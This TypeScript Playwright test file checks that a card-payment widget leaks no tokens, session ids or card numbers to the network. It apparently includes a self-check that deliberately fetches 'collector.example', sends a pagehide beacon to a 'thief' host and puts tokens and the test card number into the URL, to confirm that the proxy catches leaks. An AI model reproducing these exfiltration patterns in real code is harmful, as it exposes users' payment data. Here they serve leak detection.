import type { Browser, BrowserContext, Page } from '@playwright/test';
import { BenchPage, FIELDS, MODES, VISA } from '../support/bench-page.js';
import { findLeaks, type Place } from '../support/canary.js';
import { PolicyWatch } from '../support/policy-watch.js';
import { RevealBench } from '../support/reveal-bench.js';
import { startTap, type Tap, type Tapped } from '../support/tapping-proxy.js';
import { expect, test } from '../support/test.js';
import type { World } from '../support/world.js';

/** Names that are of use to a thief, or tell who paid: no address may hold them. */
interface Names {
  readonly sessions: string[];
  readonly thumbprints: string[];
  readonly tokens: string[];
}

/** A session endpoint of the shop that remembers what it gave to whom. */
function serveNotedSession(world: World, names: Names): string {
  return world.hosts.serve('/session-noted', {
    type: 'text/plain',
    handle: async (_, body) => {
      const { jkt, purpose, collection, tokens } = JSON.parse(body) as Record<string, string>;
      const what = purpose === 'collect' ? { collection } : { tokens, redaction: 'plain' };
      const grant = { purpose, ...what, origin: world.shop, uses: 1, minutes: 5 };
      const answer = await world.mint({ thumbprint: jkt, grant });
      const { token } = JSON.parse(answer.body) as { token: string };
      names.sessions.push(token);
      names.thumbprints.push(jkt ?? '');
      return { status: 200, body: token };
    },
  });
}

/** Pays in both modes and shows what was paid with, all behind a proxy. */
async function doMainJob(page: Page, world: World, names: Names): Promise<void> {
  world.hosts.serve('/favicon.ico', { type: 'image/svg+xml', body: '<svg xmlns="http://www.w3.org/2000/svg"/>' });
  const session = serveNotedSession(world, names);
  const bench = new BenchPage(page, world);
  for (const mode of MODES) {
    const texts = { cvc: { help: { markup: 'On the <b>back</b>' } } };
    await bench.mountCard(mode, { session, texts });
    await expect(bench.field('cvc', mode).locator('.help b')).toHaveText('back');
    await bench.fill(VISA, mode);
    const outcome = await bench.submit();
    if (!outcome.ok) throw new Error(outcome.code);
    names.tokens.push(outcome.record, ...FIELDS.map((field) => outcome.tokens[field] ?? ''));
  }
  const reveal = new RevealBench(page, world);
  const [number = '', expiry = ''] = names.tokens.slice(1);
  const shown = [
    { token: number, at: 'reveal', label: 'Shown number', copy: true },
    { token: expiry, at: 'card', label: 'Shown expiry' },
  ];
  await reveal.mount('a frame per field', shown, { session });
  expect(await reveal.show()).toMatchObject({ ok: true, states: [{ status: 'shown' }, { status: 'shown' }] });
  await expect(reveal.value('Shown number', 'a frame per field', 'reveal')).toContainText('4242 4242 4242 4242');
  await reveal.hide();
}

/** What Chromium itself asks, wherever somebody types: of which kind a form with such field names is. */
const BROWSERS_OWN = ['https://content-autofill.googleapis.com'];

/** What is proof or is counted by the protocol itself. */
const CREDENTIALS = ['authorization', 'dpop', 'content-length'];

/** Where a request goes and what it says about where it comes from. */
const addressOf = ({ method, url, headers }: Tapped): string =>
  [
    `${method} ${url}`,
    ...Object.entries(headers)
      .filter(([name]) => !CREDENTIALS.includes(name))
      .map(([name, value]) => `${name}: ${value}`),
  ].join('\n');

const placesOf = (requests: readonly Tapped[], read: (request: Tapped) => string): readonly Place[] =>
  requests.map((request) => ({ where: `${request.method} ${request.url}`, content: read(request) }));

async function historyOf(page: Page): Promise<readonly string[]> {
  const cdp = await page.context().newCDPSession(page);
  const { entries } = await cdp.send('Page.getNavigationHistory');
  return entries.map(({ url }) => url);
}

interface Job {
  readonly context: BrowserContext;
  readonly page: Page;
  readonly tap: Tap;
  readonly watch: PolicyWatch;
  readonly names: Names;
}

async function tapped(browser: Browser, use: (job: Job) => Promise<void>): Promise<void> {
  const tap = await startTap();
  const context = await browser.newContext({ proxy: { server: tap.server } });
  try {
    const page = await context.newPage();
    const names = { sessions: [], thumbprints: [], tokens: [] };
    await use({ context, page, tap, watch: await PolicyWatch.on(page), names });
  } finally {
    await context.close();
    await tap.close();
  }
}

test.describe('the main job, as the network sees it', () => {
  test('A26 A69 only the shop, the frames and the vault are asked, no address names anything, and no policy is hurt', async ({
    browser,
    world,
  }) => {
    await tapped(browser, async ({ page, tap, watch, names }) => {
      await doMainJob(page, world, names);
      const origins = new Set(tap.seen.map(({ url }) => new URL(url).origin));
      for (const own of BROWSERS_OWN) origins.delete(own);
      expect([...origins].toSorted()).toEqual([world.shop, world.elements, world.vaultUrl].toSorted());
      expect(watch.objections).toEqual([]);

      const secrets = [...names.sessions, ...names.thumbprints, ...names.tokens];
      expect(secrets.length).toBeGreaterThan(14);
      const held = (text: string): readonly string[] => secrets.filter((secret) => text.includes(secret));
      const addresses = [...tap.seen.map(addressOf), ...(await historyOf(page))];
      expect(addresses.filter((address) => held(address).length > 0)).toEqual([]);
      expect(findLeaks(placesOf(tap.seen, addressOf), VISA)).toEqual([]);
      // A frame's own requests tell no address of the page that it is in.
      const referrers = tap.seen
        .filter(({ url }) => !url.startsWith(world.shop))
        .map(({ headers }) => headers['referer']);
      expect(new Set(referrers)).toEqual(new Set([undefined, `${world.shop}/`]));

      // Values and names did pass, where they belong: values to the vault, sessions only beside a proof.
      const isRecord = ({ url, method }: Tapped): boolean =>
        method === 'POST' && url === `${world.vaultUrl}/v1/records`;
      const bodies = (requests: readonly Tapped[]): readonly string[] =>
        findLeaks(
          placesOf(requests, ({ body }) => body),
          VISA,
        );
      expect(bodies(tap.seen.filter(isRecord)).length).toBeGreaterThan(6);
      expect(bodies(tap.seen.filter((request) => !isRecord(request)))).toEqual([]);
      const authorized = tap.seen.filter(({ body }) => body.includes('"authorization"'));
      expect(new Set(authorized.map(({ url }) => new URL(url).origin))).toEqual(new Set([world.vaultUrl]));
      const credentials = authorized.map(({ body }) => JSON.parse(body) as Readonly<Record<string, string>>);
      expect(credentials.every(({ authorization = '' }) => held(authorization).length > 0)).toBe(true);
      expect(credentials.every(({ dpop = '' }) => dpop.split('.').length === 3)).toBe(true);
      // Nothing was asked first, and nothing went in a header.
      expect(tap.seen.filter(({ method }) => method === 'OPTIONS')).toEqual([]);
      expect(tap.seen.filter(({ headers }) => held(JSON.stringify(headers)).length > 0)).toEqual([]);
    });
  });

  test('the tap hears of a request elsewhere, of an address that names a token, and of a document that is gone', async ({
    browser,
    world,
  }) => {
    await tapped(browser, async ({ page, tap, names }) => {
      names.tokens.push('00000000-0000-4000-8000-000000000000');
      await new BenchPage(page, world).open();
      await page.evaluate(() => fetch('https://collector.example/x', { mode: 'no-cors' }).catch(() => undefined));
      const stranger = world.hosts.serve('/gone', { body: '' });
      await page.evaluate(
        ({ url, path }) => {
          window.addEventListener('pagehide', () => navigator.sendBeacon(url));
          history.replaceState(null, '', path);
        },
        {
          url: `${world.hosts.origin('thief')}${stranger}`,
          path: `/bench?token=${names.tokens.join()}&number=${VISA.number}`,
        },
      );
      expect((await historyOf(page)).join('\n')).toContain(names.tokens[0]);
      await page.reload();
      await expect.poll(() => tap.seen.map(({ url }) => new URL(url).origin)).toContain(world.hosts.origin('thief'));
      expect(tap.seen.map(({ url }) => url)).toContain('https://collector.example:443/');
      expect(tap.seen.map(addressOf).filter((text) => text.includes(names.tokens.join()))).not.toEqual([]);
      expect(findLeaks(placesOf(tap.seen, addressOf), VISA)).not.toEqual([]);
    });
  });
});
